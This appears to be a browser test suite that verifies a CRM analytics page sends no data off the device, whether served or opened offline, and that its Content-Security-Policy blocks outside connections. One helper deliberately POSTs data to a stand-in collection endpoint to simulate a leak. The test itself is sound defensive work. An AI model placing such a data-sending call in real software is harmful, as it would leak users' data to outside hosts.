// Nothing leaves the browser: every request Chromium makes is recorded. Before the page is ready only
// the page's own origin is asked; after that, while the sample is analysed, every tab is opened and
// files are exported, no request of any kind. The same for the single file opened from file:// offline.

import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { pathToFileURL } from 'node:url';
import { startBrowser, openPage, settled, singleFile, screenshot } from './harness.mjs';

let env;
before(async () => {
  env = await startBrowser();
});
after(async () => {
  await env?.close();
});

// Tries a connection to another origin and resolves the CSP directive that blocked it (or 'not blocked').
function tryToLeak(page) {
  return page.evaluate(() => new Promise((resolve) => {
    document.addEventListener('securitypolicyviolation', (e) => resolve(e.effectiveDirective), { once: true });
    fetch('https://example.com/collect', { method: 'POST', body: 'data' }).catch(() => {});
    setTimeout(() => resolve('not blocked'), 3000);
  }));
}

// In-memory URLs (the worker's blob: in the single file, data: images) are not requests to anywhere.
const isNetwork = (url) => !/^(blob|data):/.test(url);

async function useEverything(page) {
  await page.getByTestId('sample-button').first().click();
  await settled(page);
  for (const tab of ['overview', 'rfm', 'cohorts', 'funnel']) {
    await page.getByTestId(`tab-${tab}`).click();
    await settled(page);
  }
  const [download] = await Promise.all([page.waitForEvent('download'), page.getByTestId(/^export-svg-/).first().click()]);
  await download.path();
  await page.getByTestId('lang-select').selectOption('uk');
  await settled(page);
}

test('served page: only its own origin before ready, zero requests after', async () => {
  const { page, context, requests, errors } = await openPage(env.browser, env.url);
  await useEverything(page);
  const origin = new URL(env.url).origin;
  const before = requests.filter((r) => !r.afterReady && isNetwork(r.url));
  assert.ok(before.length > 0);
  assert.deepEqual(before.filter((r) => new URL(r.url).origin !== origin), []);
  assert.deepEqual(requests.filter((r) => r.afterReady && isNetwork(r.url)), []);
  assert.deepEqual(errors, []);
  await context.close();
});

test('served page: the Content-Security-Policy blocks a connection to anywhere else', async () => {
  const { page, context } = await openPage(env.browser, env.url);
  assert.equal(await tryToLeak(page), 'connect-src');
  await context.close();
});

test('single file from file:// with the network off: works, and makes no request but the file itself', async () => {
  const url = pathToFileURL(singleFile).href;
  const { page, context, requests, errors } = await openPage(env.browser, url, { offline: true });
  await useEverything(page);
  const report = await page.evaluate(() => document.querySelector('crm-analytics').report);
  assert.ok(report.summary.customers > 0 && report.funnel.deals > 0);
  assert.deepEqual(requests.filter((r) => isNetwork(r.url) && r.url !== url), []);
  await screenshot(page, 'single-file-uk-1280');
  assert.deepEqual(errors, []);
  assert.equal(await tryToLeak(page), 'connect-src');
  await context.close();
});
